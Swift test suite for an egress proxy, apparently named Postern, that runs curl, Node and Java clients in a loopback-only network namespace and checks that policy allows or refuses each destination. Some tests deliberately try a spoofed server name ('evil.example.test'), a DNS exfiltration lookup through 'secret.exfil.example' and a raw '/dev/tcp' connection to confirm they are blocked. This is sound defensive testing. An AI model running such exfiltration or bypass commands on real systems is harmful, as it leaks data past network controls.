import Foundation
import Logging
import NIOCore
import NIOHTTP1
import PosternJSON
import PosternPolicy
import Testing

@testable import PosternEgress

/// Programs that know no proxy, in a real network namespace with nothing but loopback. Root is needed for the server's port 443 only.
@Suite(.enabled(if: geteuid() == 0 && ForwardCommand.isInstalled("/usr/bin/unshare"), "needs root and util-linux"), .timeLimit(.minutes(2)))
struct ResolverNamespaceTests {
    /// Makes the listeners in the namespace, hands them to the proxy over the control socket (standard input), sets the resolver up and
    /// becomes the command.
    private static let helper = """
        import array, fcntl, json, os, socket, struct, subprocess, sys
        control = socket.socket(fileno=os.dup(0))
        s = socket.socket()
        fcntl.ioctl(s, 0x8914, struct.pack('16sh14x', b'lo', 0x49))
        # A second address of lo: glibc takes a machine with nothing but 127.0.0.1 for one without IPv4.
        fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8x', b'lo:1', socket.AF_INET, 0, socket.inet_aton('127.0.0.2')))
        def hand(kind, listener, host, port):
            l = socket.socket(socket.AF_INET, kind)
            l.bind((host, port))
            if kind == socket.SOCK_STREAM: l.listen(128)
            body = json.dumps({'type': 'listen', 'session': 'sesn_1', 'listener': listener, 'descriptors': 1}).encode()
            control.sendmsg([struct.pack('>I', len(body)) + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [l.fileno()]))])
        hand(socket.SOCK_DGRAM, 'dns_udp', '127.0.0.1', 53)
        hand(socket.SOCK_STREAM, 'dns_tcp', '127.0.0.1', 53)
        hand(socket.SOCK_STREAM, 'http', '0.0.0.0', 80)
        hand(socket.SOCK_STREAM, 'https', '0.0.0.0', 443)
        for name, text in (('resolv.conf', 'nameserver 127.0.0.1\\n'), ('nsswitch.conf', 'hosts: files dns\\n')):
            open(sys.argv[1] + '/' + name, 'w').write(text)
            subprocess.check_call(['mount', '--bind', sys.argv[1] + '/' + name, '/etc/' + name])
        os.execvp(sys.argv[2], sys.argv[2:])
        """

    private func inSandbox(
        _ command: [String], environment: (String) -> [String: String] = { _ in [:] },
        _ check: (ForwardCommand.Result, ForwardWorkerDouble) throws -> Void
    )
        async throws
    {
        let authority = try ForwardAuthority("upstream")
        let server = try authority.server(["api.example.test"])
        let host = "127.77.\(Int.random(in: 0...255)).\(Int.random(in: 1...254))"
        let upstream = try await TestServer.start(tls: server, host: host, port: 443) { TestServer.Answer("hello \($0.head.uri)") }
        let folder = NSTemporaryDirectory() + "postern-names-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let rule: JSON = ["id": "api", "hosts": ["api.example.test"], "ports": [443]]
        let policy = try NetworkPolicy(json: ["rules": [rule], "addresses": ["127.77.0.0/16"]])
        var configuration = EgressConfiguration(session: "sesn_1", token: try #require(ProxyToken("abcdefghijklmnop")), policy: policy)
        configuration.extraRoots = try authority.pem
        let address = try #require(IPAddress(host))
        try await ForwardWorkerDouble.withProxy(configuration, resolve: { _ in [address] }) { worker, certificate in
            try Data(certificate.utf8).write(to: URL(fileURLWithPath: "\(folder)/ca.pem"))
            let result = try await ForwardCommand(
                path: "/usr/bin/unshare", arguments: ["--net", "--mount", "/usr/bin/env", "python3", "-c", Self.helper, folder] + command,
                environment: environment("\(folder)/ca.pem").merging(["PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"]) { $1 },
                inputDescriptor: worker.control
            ).run()
            try check(result, worker)
        }
        await upstream.stop()
    }

    @Test(.enabled(if: ForwardCommand.isInstalled("/usr/bin/curl")))
    func aProgramWithoutProxyReachesWhatPolicyAllows() async throws {
        try await inSandbox(
            [
                "bash", "-c",
                "curl -m 20 -sS --noproxy '*' --cacert $CA https://api.example.test/one; echo; curl -m 20 -sS --noproxy '*' --cacert $CA -w ' %{http_code}\\n' https://other.example.test/two; curl -m 20 -sS --noproxy '*' -w ' %{http_code}' http://api.example.test/three",
            ],
            environment: { ["CA": $0] }
        ) { result, worker in
            let lines = result.output.split(separator: "\n").map(String.init)
            #expect(lines.first == "hello /one", "\(result.output)\(result.errors)")
            // Refusals that can be read: over TLS for the unknown host, and on port 80, which no rule names.
            #expect(lines.filter { $0.hasPrefix("Postern refused this request") }.count == 2 && result.output.contains(" 403"), "\(result.output)")
            let refused = worker.reports.compactMap { if case .refusal(_, _, let refusal) = $0 { refusal.destination?.description } else { nil } }
            #expect(refused == ["other.example.test:443", "api.example.test:80"])
            let calls = worker.reports.compactMap { if case .intent(_, _, let intent) = $0 { intent.destination.description } else { nil } }
            #expect(calls == ["api.example.test:443"])
        }
    }

    @Test(.enabled(if: ForwardCommand.isInstalled("/usr/bin/node")))
    func nodesFetchWorks() async throws {
        let script = """
            const a = await fetch('https://api.example.test/node'); console.log(a.status, await a.text());
            const b = await fetch('https://denied.example.test/'); console.log(b.status, await b.text());
            """
        try await inSandbox(["node", "--input-type=module", "-e", script], environment: { ["NODE_EXTRA_CA_CERTS": $0] }) { result, _ in
            #expect(
                result.output.hasPrefix("200 hello /node\n403 Postern refused this request to denied.example.test:443"),
                "\(result.output)\(result.errors)")
        }
    }

    @Test(
        .enabled(
            if: ForwardCommand.isInstalled("/usr/bin/java") && ForwardCommand.isInstalled("/usr/bin/keytool")
                && ForwardCommand.isInstalled("/usr/bin/javac")))
    func javasClientWorks() async throws {
        let script = """
            cd "$(dirname "$CA")" && keytool -importcert -noprompt -alias p -file "$CA" -storetype PKCS12 -keystore t.p12 -storepass changeit 2>/dev/null
            cat > F.java <<'END'
            import java.net.URI; import java.net.http.*;
            class F { public static void main(String[] a) throws Exception { for (var u : a) {
                var r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(u)).build(), HttpResponse.BodyHandlers.ofString());
                System.out.println(r.statusCode() + " " + r.body()); } } }
            END
            java -Djavax.net.ssl.trustStore=t.p12 -Djavax.net.ssl.trustStorePassword=changeit F.java https://api.example.test/java https://denied.example.test/
            """
        try await inSandbox(["bash", "-c", script], environment: { ["CA": $0] }) { result, _ in
            #expect(
                result.output.hasPrefix("200 hello /java\n403 Postern refused this request to denied.example.test:443"),
                "\(result.output)\(result.errors)")
        }
    }

    @Test(.enabled(if: ForwardCommand.isInstalled("/usr/bin/curl")))
    func anotherServerNameAtTheAddressIsClosed() async throws {
        // The address of an allowed name, dialled with the server name of another.
        let script =
            "A=$(getent ahostsv4 api.example.test | awk 'NR==1{print $1}'); curl -m 20 -sS -k --noproxy '*' --resolve evil.example.test:443:$A https://evil.example.test/"
        try await inSandbox(["bash", "-c", script]) { result, worker in
            #expect(result.status != 0 && result.output == "")
            #expect(
                worker.reports.contains { if case .refusal(_, _, let refusal) = $0 { refusal.reason.contains("evil.example.test") } else { false } })
        }
    }

    @Test func nothingIsResolvedAndNothingElseIsReached() async throws {
        try await inSandbox(["bash", "-c", "getent ahostsv4 $(id -u).secret.exfil.example; (echo > /dev/tcp/1.1.1.1/80) 2>&1"]) { result, worker in
            #expect(result.output.hasPrefix("127.1."), "\(result.output)\(result.errors)")
            #expect(result.output.contains("unreachable"))
            // No name has left: the proxy has neither dialled nor asked.
            #expect(worker.reports.allSatisfy { if case .ready = $0 { true } else { false } })
        }
    }
}
